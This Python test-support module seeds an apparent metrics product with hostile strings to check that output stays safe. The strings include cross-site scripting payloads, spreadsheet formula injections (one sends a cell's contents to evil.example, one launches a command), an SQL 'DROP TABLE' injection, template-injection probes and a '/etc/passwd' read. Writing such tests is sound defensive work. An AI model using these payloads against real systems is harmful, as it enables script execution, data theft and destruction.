"""Strings that would do something wherever they are not treated as text, and a product that is full of them."""

from datetime import UTC, datetime, timedelta
from typing import Any

from tests.support.builders import build_clicks, build_event
from viral_contract.client.metrics_api import MetricsApi
from viral_contract.models.calendar import CalendarEntryRequest
from viral_contract.models.drafts import DraftRequest, DraftSettings
from viral_contract.models.notifications import RuleRequest
from viral_contract.models.people import Role, Scope
from viral_contract.models.privacy import PrivacyRequestDraft
from viral_contract.models.reports import ReportRequest

# Whatever markup becomes an element has this class, and whatever runs opens a dialog.
CLASS = "hostile"
HOSTILE = (
    '<img src=x onerror=alert(1) class="hostile">',
    '"><script class=hostile>alert(1)</script>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "</title></style></textarea><svg onload=alert(1) class=hostile>",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) *bold* <!channel> <https://evil.example|ok>",
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\uff1d1+1",  # The equals sign of East Asian keyboards.
    " =1+1",
    '#eval("1+1") #image("/etc/passwd") $x$ *bold* _em_ `raw` // \\',
    "{{7*7}}${7*7}<%= 7*7 %>%s{0}",
    "'; DROP TABLE events; --",
    "\u202ecod.exe\u202c \u200b\ufeff%00\\u0000&#0;&lt;b&gt;",
    "<b class=hostile>" + "x" * 111,
)
LONG = "https://evil.example/?<script class=hostile>alert(1)</script>=" + "x" * 1900
EMAILS = ("=cmd|x@example.org", "{{7*7}}@example.org", "a'onload='b@example.org", "+1-1@example.org")
MINUTES_AGO = 5


def fill_product(base_url: str, token: str) -> MetricsApi:
    """Put a hostile string into every text that a write takes; `token` has every scope."""
    api = MetricsApi.connect(base_url, token)
    at = datetime.now(UTC) - timedelta(minutes=MINUTES_AGO)
    for number, text in enumerate(HOSTILE):
        _save_facts(api, text, at + timedelta(seconds=number), f"198.51.100.{number + 1}")
        actor = MetricsApi.connect(base_url, _save_access(api, text, number))
        actor.save_trusted_network(f"192.0.2.{number}", reason=text)
        today = datetime.now(UTC).date()
        day = CalendarEntryRequest(name=text[:120], start=today, end=today, kind="holiday")
        api.save_calendar_entry(f"holiday-{number}", day)
        api.create_draft(DraftRequest(name=text[:120], settings=DraftSettings(), start=today, end=today))
    _save_people(api)
    api.evaluate_now()
    _judge_findings(api)
    return api


def _save_facts(api: MetricsApi, text: str, at: datetime, ip_address: str) -> None:
    """An address, a device and a referrer that are flagged, their link, and content that violates."""
    opaque = dict.fromkeys(("device_fingerprint", "link_id", "referrer_id", "user_id", "session_id"), text)
    urls = dict.fromkeys(("user_agent", "referrer_url", "landing_page"), (text + LONG)[:2048])
    fields: dict[str, Any] = {**opaque, **urls, "ip_address": ip_address, "source": text, "metadata": {text: text}}
    when = {"inserted_at": at.isoformat()}
    link = {"referrer_id": text, "source": text, "campaign": text, "target_url": (text + LONG)[:2048]}
    api.save_links([{"id": text, **link, **when}])
    conversions = [build_event("conversion", at=at + timedelta(seconds=20), **fields) for _ in range(11)]
    # A user agent with an address on the web is a program's; clicks without one count, and here leak.
    counted = {**fields, "user_agent": None, "landing_page": "https://app.example.com/?email=john@example.com"}
    programs, people = (build_clicks(12, at=at, apart=0.1, **each) for each in (fields, counted))
    api.save_events([*programs, *people, *conversions])
    consent = {"recorded_at": at.isoformat(), "method": text}
    data = {text: {text: f"{text} write to john@example.com or 555-123-4567"}}
    content = {"id": text, "view_count": 0, "media": [{"kind": "photo", "of_child": True, "consent": consent}], **when}
    api.save_parent_shares([{**content, "share_type": text, "share_data": data}])
    api.save_progress_reels([{**content, "reel_type": text, "reel_data": data}])
    api.save_study_sessions([{"id": text, "participant_ids": [text], "subject": text, **when}])


def _save_access(api: MetricsApi, text: str, number: int) -> str:
    """A rule, a parent's request, and a token whose name is the actor of what it does."""
    rule = RuleRequest(name=text[:100], severities=["critical"], channel="webhook", target="https://example.com/hook")
    api.create_notification_rule(rule)
    api.record_privacy_request(PrivacyRequestDraft(kind="export", subject_id=text, note=f"{text}\n{text}"))
    # A token's name has no @, by which the audit would take it for a person, and must not look like another's.
    name = f"{text.replace('@', '')[:97]}{number:03}"
    return api.create_token(name, [Scope.METRICS_READ, Scope.ADMIN], 1).secret


def _save_people(api: MetricsApi) -> None:
    for email in EMAILS:
        api.invite_person(email, Role.VIEWER)
    api.save_subscriptions(EMAILS, "weekly")


def _judge_findings(api: MetricsApi) -> None:
    """Notes of alerts and violations; what is resolved stays listed."""
    for number, alert in enumerate(api.fetch_alerts().alerts):
        api.acknowledge_alert(alert.id, note=HOSTILE[number])
    for number, violation in enumerate(api.fetch_violations(limit=len(HOSTILE)).violations):
        api.resolve_violation(violation.id, "false_positive", HOSTILE[number])


def ask_for_report(api: MetricsApi) -> int:
    """A report on everything that was put in, in which loops and referrers are named."""
    today = datetime.now(UTC).date()
    days = {"period_start": today - timedelta(days=1), "period_end": today}
    return api.request_report(ReportRequest(report_type="custom", **days)).id
